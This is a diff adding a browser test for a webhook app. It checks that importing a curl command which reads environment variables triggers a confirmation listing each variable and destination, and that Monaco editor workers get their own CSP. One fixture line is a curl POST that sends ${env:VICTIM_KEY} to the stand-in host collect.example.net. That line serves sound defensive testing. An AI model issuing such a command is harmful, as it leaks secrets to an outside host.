@@ -1,0 +1,71 @@
+/**
+ * The Import dialog asks before saving a webhook that reads environment variables: it lists each variable,
+ * the field that reads it and where its value goes; Cancel saves nothing, confirming saves. And Monaco's
+ * editor and JSON workers start under their own CSP. Against the real browser-mode server and Chromium.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { EDITOR_WORKER_CONTENT_SECURITY_POLICY } from '../../shared/security/csp';
+import { callApiInPage, gotoWithRetry, openBrowser, startWebApp, type BrowserSession, type WebApp } from './harness';
+
+let app: WebApp;
+let session: BrowserSession;
+const pageErrors: string[] = [];
+
+beforeAll(async () => {
+  app = await startWebApp();
+  session = await openBrowser();
+  session.page.on('pageerror', (e) => pageErrors.push(e.message));
+  session.page.on('console', (m) => {
+    if (m.type() === 'error' && !m.location().url.endsWith('/favicon.ico')) pageErrors.push(m.text());
+  });
+});
+afterAll(async () => {
+  await session?.close();
+  await app?.stop();
+});
+
+describe('import asks before saving a webhook that reads variables', () => {
+  it('lists variable, field and origin; Cancel saves nothing; confirming saves', async () => {
+    const { page } = session;
+    await gotoWithRetry(page, `${app.url}#/history`);
+    await page.getByRole('button', { name: 'Import…' }).click();
+    const dialog = page.getByRole('dialog', { name: 'Import' });
+    const curl = "curl -X POST https://collect.example.net/in -H 'X-Api-Key: ${env:VICTIM_KEY}' -d '{\"a\":1}'";
+    await dialog.getByLabel('Or paste a curl command or a bundle').fill(curl);
+    await dialog.getByRole('button', { name: 'Import', exact: true }).click();
+
+    const question = dialog.getByRole('alertdialog');
+    await question.waitFor();
+    const row = question.getByRole('row').filter({ hasText: 'VICTIM_KEY' });
+    expect(await row.textContent()).toContain('headers.0.value');
+    expect(await row.textContent()).toContain('https://collect.example.net');
+    const none = await callApiInPage(page, 'webhooks.list', undefined);
+    expect(none.ok && none.value).toEqual([]);
+
+    await question.getByRole('button', { name: 'Cancel' }).click();
+    await question.waitFor({ state: 'detached' });
+    const still = await callApiInPage(page, 'webhooks.list', undefined);
+    expect(still.ok && still.value).toEqual([]);
+
+    await dialog.getByRole('button', { name: 'Import', exact: true }).click();
+    await dialog.getByRole('button', { name: 'Import and allow these reads' }).click();
+    await dialog.getByText(/Created the webhook \S+ \(inactive\)/).waitFor();
+    const saved = await callApiInPage(page, 'webhooks.list', undefined);
+    expect(saved.ok && (saved.value as Array<{ url: string }>).map((w) => w.url)).toEqual(['https://collect.example.net/in']);
+    expect(pageErrors).toEqual([]);
+  });
+
+  it("Monaco's editor and JSON workers start, each served with its own CSP, and nothing is refused", async () => {
+    const { page } = session;
+    const workerPolicies = new Map<string, string | undefined>();
+    page.on('response', (r) => {
+      const m = /\/assets\/(editor|json)\.worker-[\w-]+\.js$/.exec(new URL(r.url()).pathname);
+      if (m) workerPolicies.set(m[1]!, r.headers()['content-security-policy']);
+    });
+    await gotoWithRetry(page, `${app.url}#/webhooks/new`);
+    await page.locator('.monaco-editor').first().waitFor();
+    await expect.poll(() => page.workers().map((w) => (/(editor|json)\.worker-/.exec(w.url()) ?? [])[1]).filter(Boolean).sort(), { timeout: 20_000 }).toEqual(['editor', 'json']);
+    expect(Object.fromEntries(workerPolicies)).toEqual({ editor: EDITOR_WORKER_CONTENT_SECURITY_POLICY, json: EDITOR_WORKER_CONTENT_SECURITY_POLICY });
+    expect(pageErrors).toEqual([]);
+  });
+});
